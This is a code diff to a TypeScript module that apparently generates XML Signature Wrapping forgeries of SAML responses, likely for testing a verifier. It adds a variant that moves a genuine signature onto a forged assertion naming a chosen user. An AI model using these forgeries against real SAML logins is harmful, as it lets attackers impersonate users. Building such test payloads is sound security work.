@@ -258,11 +258,13 @@ export type WrapVariant =
   /** A new Response root with a forged Assertion; the original signed Response hidden in its Extensions and its Signature copied to the root. */
   | 'response-in-extensions'
   /** The signed Assertion hidden inside the forged Assertion's Advice; the forgery takes its ID and signature. */
-  | 'assertion-in-advice';
+  | 'assertion-in-advice'
+  /** Only the forgery (new ID) remains, carrying the genuine assertion's Signature, whose Reference names the vanished ID. */
+  | 'signature-moved-to-forgery';
 
 /** Builds an XSW attempt from a validly signed response; the forgery names `nameId`. */
 export function wrapResponse(encoded: string, variant: WrapVariant, nameId: string): string {
-  const xml = decodeResponse(encoded).replace(/^<\?xml[^>]*\?>/, '');
+  const xml = decodeResponse(encoded).replace(/^<\?xml[^>]*\?>/, '').trim();
   const assertionMatch = /<((?:[\w-]+:)?)Assertion\b[\s\S]*<\/\1Assertion>/.exec(xml);
   if (!assertionMatch) throw new Error('no Assertion to wrap');
   const signedAssertion = assertionMatch[0];
@@ -278,6 +280,10 @@ export function wrapResponse(encoded: string, variant: WrapVariant, nameId: stri
       return encodeResponse(xml.replace(signedAssertion, forge(signedAssertion, false) + signedAssertion));
     case 'forged-sibling-same-id':
       return encodeResponse(xml.replace(signedAssertion, forge(signedAssertion, true) + signedAssertion));
+    case 'signature-moved-to-forgery': {
+      const forged = forge(signedAssertion, false).replace(/(<\/(?:[\w-]+:)?Issuer>)/, `$1${signatureOf(signedAssertion)}`);
+      return encodeResponse(xml.replace(signedAssertion, forged));
+    }
     case 'assertion-in-advice': {
       const prefix = assertionMatch[1]!;
       const forged = forge(signedAssertion, true).replace(
